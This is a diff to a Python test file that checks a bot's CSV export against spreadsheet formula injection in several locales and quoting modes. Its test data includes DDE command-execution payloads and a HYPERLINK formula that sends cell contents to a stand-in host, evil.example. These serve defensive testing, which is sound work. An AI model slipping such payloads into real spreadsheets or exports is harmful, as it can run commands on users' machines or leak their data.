@@ -27,6 +27,7 @@ from bot.services.export import (
     render_docx,
     render_markdown,
     signatory_sort_key,
+    spreadsheet_csv,
 )
 
 ZURICH = ZoneInfo("Europe/Zurich")
@@ -483,9 +484,86 @@ def test_csv_neutralises_formula_injection() -> None:
         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
-@pytest.mark.parametrize("value", ["=A1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝A1"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "=A1",
+        "+1+1",
+        "-1+cmd|' /C calc'!A0",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "＝A1",
+        ' "=1',
+        "- a list item",
+    ],
+)
 def test_neutralise_cell_triggers(value: str) -> None:
     assert neutralise_cell(value) == "'" + value
+
+
+# Cells a member or a coordinator could type, each hiding a formula behind a separator of
+# some spreadsheet locale (";" for Russian, Belarusian, German; "," for English), a tab, a
+# line break or a quote.
+ATTACKS = [
+    'ok;=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "ok,=1+1",
+    "ok; =cmd|' /C calc'!A0",
+    "ok;+SUM(1,2)",
+    "ok;-2+3+cmd|' /C calc'!A0",
+    "ok;@SUM(A1:A9)",
+    'ok;"=HYPERLINK(""http://evil.example"")"',
+    "ok\t=1+1",
+    "ok\r=1+1",
+    "line one\n=1+1",
+    "=1+1;=2+2,=3+3",
+    "ok;＝1+1",
+    '";=1+1;"',
+]
+FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+
+
+@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
+@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
+def test_no_cell_is_a_formula_whatever_the_spreadsheets_separator(
+    delimiter: str, quoting: int
+) -> None:
+    """Read back as spreadsheets of each locale would: with their own separator, honouring
+    quotes or (a naive importer) not. Whitespace and quotes before a formula character do
+    not disarm it (importers may trim them), so they are skipped before the check."""
+    rows = [signatory(attack, "declined", contact=attack, reason=attack) for attack in ATTACKS]
+    blob = render_csv(make_input(rows))
+    text = blob[3:].decode("utf-8")
+    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting)
+    for row in reader:
+        for cell in row:
+            start = cell.lstrip(' "\t\r\n')
+            assert not start.startswith(FORMULA), (delimiter, quoting, cell)
+
+
+def test_every_field_is_quoted_and_comes_back_as_written() -> None:
+    rows = [signatory(attack, "declined", reason=attack) for attack in ATTACKS]
+    blob = render_csv(make_input(rows))
+    lines = blob[3:].decode("utf-8").split("\r\n")
+    assert lines[0].startswith('"organisation","response",')
+    table = read_csv(blob)
+    organisations = {row[0] for row in table[1:]}
+    # With a comma-separated reader (the file's own format) every cell is one field, the
+    # apostrophes the only change.
+    assert {o.replace("'", "") for o in organisations} == {a.replace("'", "") for a in ATTACKS}
+
+
+@pytest.mark.parametrize(
+    "value", ["-5", "+3.5", "temperature -5; we disagree", "Anna = Bob", "a-b, c+d", "x@y.org"]
+)
+def test_legitimate_text_and_plain_numbers_stay_as_they_are(value: str) -> None:
+    assert neutralise_cell(value) == value
+
+
+def test_the_audit_trail_csv_is_neutralised_the_same_way() -> None:
+    data = '{"milestone":3,"name":"ok;=1+1","n":-2}'  # an event written before names left
+    table = read_csv(spreadsheet_csv(("action", "data"), [["milestone.added", data]]))
+    assert table[1] == ["milestone.added", '{"milestone":3,"name":"ok;\'=1+1","n":-2}']
 
 
 def test_csv_keeps_multiline_reasons_in_one_cell() -> None:
